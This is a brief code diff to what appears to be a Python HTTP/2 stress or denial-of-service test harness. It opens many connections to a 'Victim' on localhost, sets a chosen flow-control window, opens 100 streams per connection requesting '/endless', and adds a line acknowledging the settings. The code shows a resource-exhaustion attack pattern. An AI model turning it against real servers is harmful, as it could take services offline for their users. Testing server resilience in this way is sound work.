@@ -132,6 +132,7 @@ def _windows(count: int, window: int, victim: Victim, seconds: float) -> Figures
         for sock in socks:
             h2 = H2Connection(H2Configuration(client_side=True))
             h2.local_settings.initial_window_size = window
+            h2.local_settings.acknowledge()  # else it would not be told
             h2.initiate_connection()
             for stream in range(1, 201, 2):
                 fields = [(":method", "GET"), (":path", "/endless"), (":scheme", "http"), (":authority", "localhost")]
